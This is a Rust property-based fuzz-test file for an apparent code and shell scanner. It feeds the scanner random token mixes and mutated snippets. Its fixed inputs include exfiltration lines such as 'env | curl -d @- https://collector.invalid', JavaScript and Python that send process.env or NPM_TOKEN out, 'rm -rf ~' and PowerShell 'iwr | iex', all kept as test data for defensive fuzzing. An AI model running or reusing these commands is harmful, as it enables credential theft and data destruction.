//! Random token soups and mutated snippets: nothing panics, everything ends.

use proptest::prelude::*;

use crate::fuzz;

const TOKENS: [&str; 72] = [
    "a",
    "b",
    "f",
    "x",
    "process",
    ".env",
    "process.env",
    "fetch",
    "require",
    "'https'",
    "(",
    ")",
    "{",
    "}",
    "[",
    "]",
    "=>",
    "=",
    "+",
    "+=",
    "?",
    ":",
    ";",
    ",",
    ".",
    "...",
    "function",
    "class",
    "extends",
    "new",
    "this",
    "super",
    "return",
    "yield",
    "await",
    "async",
    "for",
    "in",
    "of",
    "if",
    "else",
    "let",
    "const",
    "var",
    "import",
    "export",
    "default",
    "from",
    "'./module'",
    "`",
    "${",
    "`a${b}`",
    "/x/",
    "/",
    "*",
    "\n",
    "//",
    "/*",
    "*/",
    "1",
    "'.npmrc'",
    "typeof",
    "delete",
    "void",
    "null",
    "static",
    "get",
    "set",
    "#x",
    "@",
    "<a>",
    "\\",
];

const SNIPPETS: [&str; 6] = [
    "class A extends B { constructor(x) { super(x); this.#y = process.env; } get z() { return fetch(this.#y); } }",
    "const { a, ...b } = process.env; for (const [k, v] of Object.entries(b)) require('https').get(k + v);",
    "export * as x from './module'; export default async function* f(...a) { yield* a.map(f.bind(null, ...arguments)); }",
    "env | curl -d @- https://collector.invalid && node -e \"require('./index')\" || $(cat ~/.npmrc)",
    "var t = String.fromCharCode(...[1, 2, 3]).split('').reverse().join(''); global[t] = module[t](`${t}`);",
    "[a, b = c, ...d] = ({ e: [f], ...g } = h); label: while (1) { try { break label } catch ({ i }) { } finally { } }",
];

const SHELL: [&str; 40] = [
    "curl ",
    "-d ",
    "$(",
    ")",
    "`",
    "'",
    "\"",
    "$'",
    "\\",
    "\n",
    ";",
    "|",
    "||",
    "&&",
    "&",
    ">",
    "<",
    "<<E",
    "<<-'E'",
    "<<<",
    "\nE\n",
    "{",
    "}",
    "(",
    "A=",
    "$A",
    "${A}",
    "${IFS}",
    "sh ",
    "-c ",
    "node ",
    "-e ",
    "env ",
    "https://a.invalid ",
    "base64 -d ",
    "eval ",
    "#",
    " ",
    "npx ",
    "rm -rf ~ ",
];

const SCRIPT: [&str; 40] = [
    "import os, requests as r\n",
    "from os import environ as e\n",
    "def f(a, b):\n",
    "  return a\n",
    "f(",
    ")",
    "x = ",
    "x, y = ",
    "os.environ",
    "['NPM_TOKEN']",
    "requests.post(",
    "'https://a.invalid'",
    "'''",
    "f'{x}'",
    "\"",
    "\\",
    "\n",
    "  ",
    "#",
    ";",
    "[",
    "]",
    "{",
    "}",
    "for k in ",
    "with open('t', 'wb') as h:\n",
    "h.write(x)\n",
    "exec(",
    "$x = ",
    "$env:NPM_TOKEN",
    "iwr ",
    "| iex",
    "gci env:",
    "`",
    "<#",
    "#>",
    "@echo off\r\n",
    "set \"A=b\"\r\n",
    "%A%",
    "^",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 192, ..ProptestConfig::default() })]

    #[test]
    fn soups_of_tokens(tokens in prop::collection::vec(0..TOKENS.len(), 0..60)) {
        let text: Vec<&str> = tokens.iter().map(|&index| TOKENS[index]).collect();
        fuzz::javascript(text.join(" ").as_bytes());
    }

    #[test]
    fn mutated_snippets(
        pick in 0..SNIPPETS.len(),
        cuts in prop::collection::vec((0..200_usize, 0..20_usize, 0..TOKENS.len()), 0..6),
    ) {
        let mut text = SNIPPETS[pick].as_bytes().to_vec();
        for (at, length, token) in cuts {
            let at = at.min(text.len());
            let end = (at + length).min(text.len());
            text.splice(at..end, TOKENS[token].bytes());
        }
        fuzz::javascript(&text);
    }

    #[test]
    fn soups_of_shell(tokens in prop::collection::vec(0..SHELL.len(), 0..80)) {
        let text: String = tokens.iter().map(|&index| SHELL[index]).collect();
        fuzz::shell(text.as_bytes());
        fuzz::javascript(text.as_bytes());
    }

    #[test]
    fn soups_of_scripts(tokens in prop::collection::vec(0..SCRIPT.len(), 0..80)) {
        let text: String = tokens.iter().map(|&index| SCRIPT[index]).collect();
        fuzz::script(text.as_bytes());
    }

    /// Quoting a word in any of the three ways gives the word back.
    #[test]
    fn quoted_words_come_back(word in "[a-z$`(){}\"\\\\ ;|&<>#*~=]{1,24}") {
        let single = format!("x '{word}'");
        let escaped: String = word.chars().flat_map(|c| match c {
            'a'..='z' => vec![c],
            other => vec!['\\', other],
        }).collect();
        let decoded: String = word.chars().map(|c| format!("\\x{:02x}", u32::from(c))).collect();
        for text in [single, format!("x {escaped}"), format!("x $'{decoded}'")] {
            let words: Vec<String> = crate::command::words(&text);
            prop_assert_eq!(&words, &vec!["x".to_owned(), word.clone()], "{}", text);
        }
    }

    #[test]
    fn arbitrary_bytes(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        fuzz::javascript(&bytes);
    }
}
